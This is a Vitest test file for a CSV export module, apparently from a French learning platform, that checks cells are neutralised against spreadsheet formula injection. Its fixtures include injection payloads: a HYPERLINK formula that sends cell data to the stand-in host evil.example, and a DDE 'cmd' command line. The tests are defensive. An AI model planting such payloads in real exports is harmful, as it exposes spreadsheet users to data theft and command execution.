import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, csvModeOf, exportRow, parseCsv, spreadsheetSafe } from '.';

describe('CSV formula injection', () => {
  it('prefixes text cells starting with = + - @, tab or CR with a single quote', () => {
    expect(spreadsheetSafe('=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")')).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")');
    expect(spreadsheetSafe("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(spreadsheetSafe('-2+3+cmd|x')).toBe("'-2+3+cmd|x");
    expect(spreadsheetSafe('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(spreadsheetSafe('\t=1+1')).toBe("'\t=1+1");
    expect(spreadsheetSafe('\r=1+1')).toBe("'\r=1+1");
    expect(spreadsheetSafe('Durand')).toBe('Durand');
    expect(spreadsheetSafe('Jean-Pierre')).toBe('Jean-Pierre');
    expect(spreadsheetSafe('')).toBe('');
  });

  it('leaves plain numbers alone, as numbers or as text, in both modes', () => {
    for (const n of ['-1.5', '+2', '-3,25', '1e-3', '-.5', '-4e+2']) expect(spreadsheetSafe(n)).toBe(n);
    expect(csvCell(-1.5, 'spreadsheet')).toBe('-1.5');
    expect(csvCell(-1.5, 'raw')).toBe('-1.5');
    expect(csvLine(['@acquis1', -1.5, '-0.25'], ',', 'raw')).toBe('@acquis1,-1.5,-0.25\r\n');
    expect(csvLine(['@acquis1', -1.5, '-0.25'], ',', 'spreadsheet')).toBe("'@acquis1,-1.5,-0.25\r\n");
  });

  it('keeps raw text as it is and still quotes what needs quoting', () => {
    expect(csvLine(['=1+1;2', '@x'], ';', 'raw')).toBe('"=1+1;2";@x\r\n');
    expect(csvLine(['=1+1;2', '@x'], ';', 'spreadsheet')).toBe('"\'=1+1;2";\'@x\r\n');
    // A quoted field read back keeps the neutralising quote and nothing else.
    expect(parseCsv(csvLine(['=A1"B', 'ok']))).toEqual([['\'=A1"B', 'ok']]);
    // Spreadsheet-safe is the default.
    expect(csvLine(['+cmd'])).toBe("'+cmd\r\n");
  });

  it('reads the mode asked for in the query string', () => {
    expect(csvModeOf('brut', 'spreadsheet')).toBe('raw');
    expect(csvModeOf('tableur', 'raw')).toBe('spreadsheet');
    expect(csvModeOf(null, 'spreadsheet')).toBe('spreadsheet');
    expect(csvModeOf(null, 'raw')).toBe('raw');
    expect(csvModeOf('autre', 'raw')).toBe('raw');
  });

  it('neutralises a learner named like a formula in the campaign export unless raw', () => {
    const ctx = { organisation: '@Lycée', campaign: 'Rentrée', code: 'ABCDEF234', competences: [], areas: [], badges: [], hasStages: false };
    const learner = {
      lastName: '=HYPERLINK("http://evil.example","x")',
      firstName: "+cmd|' /C calc'!A0",
      division: '-2nde',
      progress: 1,
      startedAt: new Date('2026-01-05T10:00:00Z'),
      sharedAt: null,
      stage: null,
      badges: [],
      masteryRate: null,
      groups: {},
    };
    const safe = parseCsv(exportRow(ctx, learner))[0]!;
    expect(safe.slice(0, 6)).toEqual(["'@Lycée", 'Rentrée', 'ABCDEF234', '\'=HYPERLINK("http://evil.example","x")', "'+cmd|' /C calc'!A0", "'-2nde"]);
    const raw = parseCsv(exportRow({ ...ctx, mode: 'raw' }, learner))[0]!;
    expect(raw.slice(0, 6)).toEqual(['@Lycée', 'Rentrée', 'ABCDEF234', '=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", '-2nde']);
  });
});
